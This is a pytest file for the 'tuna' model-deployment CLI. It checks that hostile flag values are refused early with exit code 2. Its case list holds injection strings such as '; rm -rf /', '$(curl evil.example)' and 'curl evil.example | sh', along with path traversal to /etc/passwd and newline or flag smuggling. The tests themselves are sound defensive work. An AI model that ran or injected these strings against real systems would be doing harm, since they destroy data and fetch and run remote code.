"""Hostile input across the CLI: every case is refused with one line and exit 2, before
anything remote is created and before anything is written to the state store."""

from __future__ import annotations

import pytest

from tuna import cli

BASE = {"--model": "Qwen/Qwen3-0.6B", "--gpu": "L4", "--serverless-provider": "baseten"}

CASES = [
    ("--model", "Qwen/Qwen3\n0.6B"),
    ("--model", "Qwen/Qwen3-0.6B\nextra_key: 1"),
    ("--model", "Qwen/Qwen3: {a: 1}"),
    ("--model", "Qwen/Qwen3-0.6B; rm -rf /"),
    ("--model", "Qwen/$(curl evil.example)"),
    ("--model", "Qwen/`id`"),
    ("--model", "Qwen/" + "a" * 5000),
    ("--model", ""),
    ("--model", "Qwen/Qwen3-0.6B\u202e"),
    ("--model", "Qwen/模型"),
    ("--model", "../../etc/passwd"),
    ("--gpu", "L4; rm -rf /"),
    ("--gpu", "H100MIG2"),
    ("--gpu", ""),
    ("--gpu", "Ｌ４"),
    ("--tp-size", "0"),
    ("--tp-size", "-2"),
    ("--tp-size", "two"),
    ("--tp-size", "99999999999999999999"),
    ("--tp-size", "1.5"),
    ("--max-model-len", "0"),
    ("--max-model-len", "-4096"),
    ("--service-name", "a/b"),
    ("--service-name", "my service"),
    ("--service-name", ".."),
    ("--service-name", "x" * 300),
    ("--service-name", "UPPER"),
    ("--quantization", "awq; curl evil.example | sh"),
    ("--quantization", "$(id)"),
    ("--concurrency", "0"),
    ("--min-replicas", "-1"),
    ("--max-replicas", "0"),
    ("--scale-down-delay", "4000"),  # past Baseten's 3600 s limit
    ("--tp-size", "16"),  # past Baseten's 8 GPUs per replica
    ("--cold-start-mode", "fast_boot\n"),
    ("--revision", "main; rm -rf /"),
    ("--revision", "-x"),
    ("--image", "vllm/vllm-openai:v0.15.1 --privileged"),
    ("--hf-secret", "hf token"),
    ("--timeout", "-5m"),
    ("--serverless-provider", "baseten\nmodal"),
]


@pytest.fixture
def isolated(monkeypatch, fake, tmp_path):
    state = tmp_path / "state"
    monkeypatch.setenv("TUNA_STATE_DIR", str(state))
    monkeypatch.setenv("BASETEN_API_KEY", "k")
    monkeypatch.setenv("BASETEN_API_URL", fake.url)
    monkeypatch.setenv("BASETEN_REMOTE_URL", fake.url)
    monkeypatch.setenv("HF_ENDPOINT", "http://127.0.0.1:9")  # refused before any model check
    monkeypatch.chdir(tmp_path)
    return state


def test_corpus_is_large_enough():
    assert len(CASES) >= 25


@pytest.mark.parametrize("flag, value", CASES, ids=[f"{f}={v[:20]!r}" for f, v in CASES])
def test_hostile_deploy_input_is_refused(isolated, fake, capsys, flag, value):
    args = {**BASE, flag: value}
    code = cli.main(["deploy", *[part for pair in args.items() for part in pair]])
    out, err = capsys.readouterr()
    assert code == 2
    assert out == ""
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("tuna"), err
    assert "Traceback" not in err and "internal error" not in err
    assert fake.requests == []
    assert not isolated.exists()


@pytest.mark.parametrize("args", [
    ["status", "--service-name", "../../etc/passwd"],
    ["destroy", "--service-name", "x\ny"],
    ["show-gpus", "--gpu", "$(id)"],
    ["check", "--provider", "../baseten"],
])
def test_hostile_input_to_other_commands(isolated, fake, capsys, args):
    assert cli.main(args) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert fake.requests == []
